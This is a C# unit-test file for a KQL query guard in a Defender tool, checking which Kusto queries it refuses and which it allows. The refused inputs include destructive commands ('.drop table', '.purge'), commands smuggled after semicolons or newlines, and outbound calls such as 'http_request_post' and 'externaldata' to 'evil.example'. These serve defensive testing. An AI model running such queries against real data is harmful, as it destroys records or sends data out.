using DefenderMcp.Kql.Guard;

namespace DefenderMcp.Kql.Tests;

public sealed class KqlGuardTests
{
    [Theory]
    // Management commands, in any statement.
    [InlineData(".drop table DeviceProcessEvents", "'.drop'")]
    [InlineData(".show tables", "'.show'")]
    [InlineData("  \n\t.set-or-append T <| DeviceInfo", "management")]
    [InlineData("  // c\n.show tables", "'.show'")]
    [InlineData("// a comment first\n.alter table T (a:string)", "'.alter'")]
    [InlineData("\u00A0\u200B\uFEFF.show tables", "management")]
    [InlineData("..show tables", "management")]
    [InlineData("DeviceInfo | take 1; .drop table DeviceInfo", "'.drop'")]
    [InlineData("DeviceInfo | take 1;.drop table DeviceInfo", "'.drop'")]
    [InlineData("DeviceInfo | take 1;\n  .purge table DeviceInfo records", "'.purge'")]
    [InlineData("let x = 1;\n// c\n.create table T (a:string)", "'.create'")]
    [InlineData("DeviceInfo ;; .show tables", "management")]
    [InlineData(".SecretTableNameThatMustNotBeEchoed", "'.' at the start")]
    [InlineData("DeviceInfo | .show tables", "'.show'")]
    [InlineData("DeviceInfo | ..show tables", "management")]
    [InlineData("DeviceInfo <| DeviceInfo", "<|")]
    [InlineData("DeviceInfo | where x == 1 <| DeviceInfo", "<|")]
    [InlineData("$command_results | take 1", "$command_results")]
    // Commands in every position the lexer can see one: inside union (...), inside a let body, on a new line.
    [InlineData("union (.show tables), DeviceInfo", "'.show'")]
    [InlineData("union DeviceInfo, (.drop table DeviceInfo)", "'.drop'")]
    [InlineData("DeviceInfo | join (.show database schema) on DeviceId", "'.show'")]
    [InlineData("let f = () { .show tables }; f()", "'.show'")]
    [InlineData("let f = (x:int) {\n  .drop table DeviceInfo\n}; f(1)", "'.drop'")]
    [InlineData("DeviceInfo | take 1\n.drop table DeviceInfo", "'.drop'")]
    [InlineData("DeviceInfo\n.show tables", "'.show'")]
    [InlineData("DeviceInfo | where x == 'a'\r\n.purge table DeviceInfo records", "'.purge'")]
    [InlineData("print x = 1\n  .set-or-append T <| DeviceInfo", "management")]
    // Fails closed: member access on a new line that reads as a command verb is refused too.
    [InlineData("DeviceInfo | extend p = parse_json(AdditionalFields)\n  .show", "'.show'")]
    // External data and cross-cluster access.
    [InlineData("externaldata (a:string) [\"https://x\"]", "externaldata")]
    [InlineData("EXTERNALDATA (a:string) [h'https://evil.example/x.csv']", "externaldata")]
    [InlineData("external_data (a:string) [\"https://x\"]", "external_data")]
    [InlineData("DeviceInfo | join (externaldata (x:string) [h@'https://x'] with (format='csv')) on $left.DeviceId == $right.x", "externaldata")]
    [InlineData("DeviceInfo | where DeviceName in ((externaldata (x:string) ['https://x']))", "externaldata")]
    [InlineData("inline_external_table(x:string) kind=storage dataformat=txt (h'https://x')", "inline_external_table")]
    [InlineData("external_table('t') | take 1", "external_table()")]
    [InlineData("EXTERNAL_TABLE('t')", "external_table()")]
    [InlineData("cluster('x').database('y').T", "cluster()")]
    [InlineData("Cluster('x').database('y').T", "cluster()")]
    [InlineData("union DeviceInfo, cluster ( 'x' ).database('y').T", "cluster()")]
    [InlineData("union DeviceInfo, cluster // hide\n ('x').database('y').T", "cluster()")]
    [InlineData("database('other').DeviceInfo", "database()")]
    [InlineData("workspace('ws').SecurityEvent", "workspace()")]
    [InlineData("app('a').requests", "app()")]
    [InlineData("resource('/subscriptions/x').T", "resource()")]
    [InlineData("adx('https://help.kusto.windows.net/Samples').StormEvents", "adx()")]
    [InlineData("arg('').Resources", "arg()")]
    [InlineData("stored_query_result('r')", "stored_query_result()")]
    [InlineData("['cluster']('x').database('y').T", "cluster()")]
    [InlineData("DeviceInfo | union ['database']('y').T", "database()")]
    [InlineData("find in (cluster('x').database('y').*) where true", "cluster()")]
    [InlineData("DeviceInfo | macro-expand entity_group [DeviceInfo] as X (X)", "macro-expand")]
    [InlineData("DeviceInfo | MACRO-EXPAND entity_group [DeviceInfo] as X (X)", "macro-expand")]
    // Plugins that reach out or run code.
    [InlineData("evaluate http_request('https://x')", "http_request")]
    [InlineData("DeviceInfo | evaluate http_request_post('https://evil.example', '', '', 'x')", "http_request_post")]
    [InlineData("DeviceInfo | evaluate sql_request('Server=x', 'select 1')", "sql_request")]
    [InlineData("DeviceInfo | evaluate mysql_request('x', 'select 1')", "mysql_request")]
    [InlineData("DeviceInfo | evaluate postgresql_request('x', 'select 1')", "postgresql_request")]
    [InlineData("DeviceInfo | evaluate cosmosdb_sql_request('x', 'select 1')", "cosmosdb_sql_request")]
    [InlineData("DeviceInfo | evaluate azure_digital_twins_query_request('x', 'q')", "azure_digital_twins_query_request")]
    [InlineData("DeviceInfo | evaluate ai_chat_completion('p', 'x')", "ai_chat_completion")]
    [InlineData("DeviceInfo | evaluate infer_storage_schema('x')", "infer_storage_schema")]
    [InlineData("DeviceInfo | evaluate python(typeof(*), 'result = df')", "python")]
    [InlineData("print x = 1 | evaluate r(typeof(*), 'result <- df')", "'evaluate r'")]
    [InlineData("DeviceInfo | evaluate hint.distribution = per_node http_request('https://x')", "http_request")]
    [InlineData("DeviceInfo | evaluate hint.distribution=per_node hint.remote=auto sql_request('x', 'y')", "sql_request")]
    [InlineData("DeviceInfo | evaluate hint.distribution = http_request('https://x')", "without a plugin")]
    [InlineData("DeviceInfo | evaluate ['http_request']('https://x')", "http_request")]
    [InlineData("DeviceInfo | EVALUATE HTTP_REQUEST('https://x')", "HTTP_REQUEST")]
    [InlineData("DeviceInfo | evaluate", "without a plugin")]
    [InlineData("DeviceInfo | evaluate ('x')", "without a plugin")]
    // Statements, directives and reserved names.
    [InlineData("set notruncation; DeviceInfo", "'set' statements")]
    [InlineData("DeviceInfo | take 1; set query_take_max_records=10; DeviceInfo", "'set' statements")]
    [InlineData("alias database x = cluster('c').database('d'); DeviceInfo", "'alias' statements")]
    [InlineData("declare query_parameters(p:string); DeviceInfo", "'declare' statements")]
    [InlineData("restrict access to (DeviceInfo); DeviceInfo", "'restrict' statements")]
    [InlineData("declare pattern app; DeviceInfo", "'declare' statements")]
    [InlineData("pattern app = (x:string) { DeviceInfo }; DeviceInfo", "'pattern' statements")]
    [InlineData("#connect cluster('x')\nDeviceInfo", "directives")]
    [InlineData("DeviceInfo | take 1\n#load x", "directives")]
    [InlineData("DeviceInfo | extend __x = 1", "reserved")]
    [InlineData("DeviceInfo | extend x__ = 1", "reserved")]
    [InlineData("__crossCluster('x')", "reserved")]
    [InlineData("DeviceInfo | project __id", "reserved")]
    [InlineData("DeviceInfo | extend x = ['__executeAndCache'](1)", "reserved")]
    // Lexical problems and bad text.
    [InlineData("DeviceInfo | where a == 'unterminated", "unterminated")]
    [InlineData("DeviceInfo | where DeviceName == \"unterminated", "unterminated")]
    [InlineData("DeviceInfo | where a == @'unterminated", "unterminated")]
    [InlineData("DeviceInfo | where a == 'line\nbreak'", "unterminated")]
    [InlineData("DeviceInfo | where a == ```never closed", "unterminated")]
    [InlineData("DeviceInfo | where a == ~~~never closed", "unterminated")]
    [InlineData("DeviceInfo | where Timestamp > datetime(2024-01-01", "unterminated")]
    [InlineData("DeviceInfo | where a == 'bad \\q escape'", "escape")]
    [InlineData("DeviceInfo | where a == 'x\u0001y'", "control")]
    [InlineData("DeviceInfo\u0000 | take 1", "control")]
    [InlineData("DeviceInfo // comment \u001b[31m\n| take 1", "control")]
    [InlineData("DeviceInfo\f| take 1", "control")]
    [InlineData("DeviceInfo & x", "unexpected character")]
    [InlineData("", "empty")]
    [InlineData("   \n\t ", "empty")]
    [InlineData("// only a comment", "no statements")]
    public void Refuses(string query, string reasonContains)
    {
        var result = KqlGuard.Check(query);

        Assert.False(result.Allowed, query);
        Assert.NotNull(result.Rejection);
        Assert.Contains(reasonContains, result.Rejection, StringComparison.Ordinal);
        Assert.Empty(result.Warnings);
    }

    [Theory]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has \".drop\"")]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has '.drop table'")]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has \"cluster('x').database('y')\"")]
    [InlineData("DeviceInfo // externaldata")]
    [InlineData("DeviceInfo // externaldata and cluster('x') and .drop in a comment\n| take 1")]
    [InlineData("DeviceInfo | take 1 // ; .drop table DeviceInfo")]
    [InlineData("DeviceInfo | where DeviceName == @'C:\\externaldata\\'")]
    [InlineData("DeviceInfo | where DeviceName == 'evaluate http_request(x)'")]
    [InlineData("DeviceInfo | where DeviceName == ```;\n.drop table T\n<| externaldata```")]
    [InlineData("DeviceInfo | where DeviceName == ~~~cluster('x')~~~")]
    [InlineData("DeviceInfo | where DeviceName == h'secret-but-harmless'")]
    [InlineData("DeviceInfo | where DeviceName == h@'C:\\x'")]
    [InlineData("DeviceInfo | where DeviceName == \"a;.drop table x\"")]
    [InlineData("DeviceInfo | where DeviceName has \"<|\" or DeviceName has '#connect'")]
    [InlineData("DeviceInfo | project ['externaldata'] = DeviceName")]
    [InlineData("DeviceInfo | extend ['cluster'] = 1, ['__x'] = 2")]
    [InlineData("DeviceInfo | where DeviceName == \"a \\\"quoted\\\" .show\"")]
    [InlineData("DeviceInfo | where DeviceName == @\"say \"\"hi\"\"\"")]
    [InlineData("DeviceInfo | evaluate bag_unpack(AdditionalFields)")]
    [InlineData("DeviceInfo | evaluate ['bag_unpack'](AdditionalFields)")]
    [InlineData("DeviceInfo | evaluate pivot(OSPlatform)")]
    [InlineData("DeviceInfo | evaluate hint.distribution = per_node autocluster()")]
    [InlineData("DeviceInfo | summarize arg_max(Timestamp, *) by DeviceId")]
    [InlineData("DeviceProcessEvents | where Timestamp > ago(7d) | summarize count() by bin(Timestamp, 1h)")]
    [InlineData("DeviceProcessEvents | where Timestamp between (datetime(2024-01-01) .. datetime(2024-01-02))")]
    [InlineData("let x = 5; DeviceInfo | take x")]
    [InlineData("let database_name = 'x'; DeviceInfo | where DeviceName == database_name")]
    [InlineData("DeviceInfo | extend alias = 1, set = 2, pattern = 3 | project alias, set, pattern")]
    [InlineData("DeviceProcessEvents | where ProcessCommandLine has_any ('set', 'alias', 'restrict', 'externaldata')")]
    [InlineData("DeviceProcessEvents | project-away AdditionalFields | mv-expand x = todynamic(AdditionalFields)")]
    [InlineData("DeviceInfo | where DeviceName !contains 'dc' and DeviceName !in~ ('a','b')")]
    [InlineData("DeviceInfo | where RegistryDeviceTag == 'databases'")]
    [InlineData("DeviceInfo | extend x_ = 1, _y = 2")]
    [InlineData("DeviceNetworkEvents | where RemoteUrl endswith \".example\" | take 10")]
    [InlineData("DeviceInfo | where DeviceName matches regex @\"^db\\d+\\.\"")]
    [InlineData("DeviceInfo | parse DeviceName with Host \".\" Domain")]
    [InlineData("let bad = dynamic(['mimikatz.exe', \"procdump.exe\"]); DeviceProcessEvents | where FileName in (bad)")]
    [InlineData("DeviceLogonEvents | join kind=inner (DeviceInfo | summarize arg_max(Timestamp, *) by DeviceId) on DeviceId")]
    [InlineData("DeviceInfo | take 1;\nDeviceInfo | take 2;")]
    [InlineData("datatable(a:string) [\"x\"] | take 1")]
    [InlineData("print x = 1")]
    [InlineData("range x from 1 to 10 step 1")]
    [InlineData("DeviceInfo | where Timestamp > ago(1d) | extend ['app'] = 1")]
    [InlineData("union (DeviceInfo | where DeviceName == '.show tables'), DeviceEvents")]
    [InlineData("let f = () { DeviceInfo | where x has \".drop table\" }; f()")]
    [InlineData("DeviceInfo | take 1 // then\n// .drop table DeviceInfo")]
    [InlineData("DeviceInfo | extend p = parse_json(AdditionalFields)\n  .name")]
    [InlineData("DeviceInfo | extend a = todynamic(x)[0].name, b = ['Device Name'].length, c = f(x).y")]
    [InlineData("DeviceInfo | where Timestamp between (ago(1d) .. now())")]
    [InlineData("DeviceInfo | join kind=inner (DeviceEvents) on $left.DeviceId == $right.DeviceId")]
    public void Allows(string query)
    {
        var result = KqlGuard.Check(query);

        Assert.True(result.Allowed, result.Rejection);
        Assert.Null(result.Rejection);
    }

    [Fact]
    public void Refuses_more_than_ten_thousand_characters_but_accepts_exactly_ten_thousand()
    {
        const string prefix = "DeviceInfo | take 1 //";
        var exactly = prefix + new string('x', 10_000 - prefix.Length);
        var over = prefix + new string('x', 10_001 - prefix.Length);

        Assert.Equal(10_000, exactly.Length);
        Assert.True(KqlGuard.Check(exactly).Allowed);
        Assert.Equal(10_001, over.Length);
        Assert.Contains("10,000", KqlGuard.Check(over).Rejection!, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(".drop table SecretTableName_1234567890 with (whatever)")]
    [InlineData("DeviceInfo | evaluate SecretTableName_1234567890_and_a_lot_more_text_to_clip('x')")]
    [InlineData("DeviceInfo | where x == 'SecretTableName_1234567890")]
    [InlineData("SecretTableName_1234567890 | extend __x = 1")]
    [InlineData("SecretTableName_1234567890 & x")]
    public void Rejection_never_echoes_more_than_a_few_characters(string query)
    {
        var result = KqlGuard.Check(query);

        Assert.False(result.Allowed);
        Assert.DoesNotContain("1234567890_and", result.Rejection!, StringComparison.Ordinal);
        Assert.DoesNotContain("SecretTableName_1234567890 ", result.Rejection!, StringComparison.Ordinal);
        Assert.True(result.Rejection!.Length < 120, result.Rejection);
    }

    [Fact]
    public void Every_allowed_plugin_passes_and_lookalikes_do_not()
    {
        Assert.All(KqlGuard.AllowedPlugins, plugin => Assert.True(KqlGuard.Check($"DeviceInfo | evaluate {plugin}(x)").Allowed, plugin));
        Assert.False(KqlGuard.Check("DeviceInfo | evaluate bag_unpack_http(x)").Allowed);
        Assert.False(KqlGuard.Check("DeviceInfo | evaluate pivot2(x)").Allowed);
    }

    [Fact]
    public void Refuses_lone_surrogates()
    {
        var result = KqlGuard.Check("DeviceInfo | where a == '\ud800x'");

        Assert.False(result.Allowed);
        Assert.Contains("Unicode", result.Rejection!, StringComparison.Ordinal);
        Assert.True(KqlGuard.Check("DeviceInfo | where a == '\ud83d\ude00'").Allowed);
    }

    [Fact]
    public void Default_options_use_a_one_day_timespan()
    {
        Assert.Equal(TimeSpan.FromDays(1), new KqlGuardOptions().Timespan);
        Assert.Equal(KqlGuard.Check("DeviceInfo | take 1").Warnings, KqlGuard.Check("DeviceInfo | take 1", new KqlGuardOptions()).Warnings);
    }
}
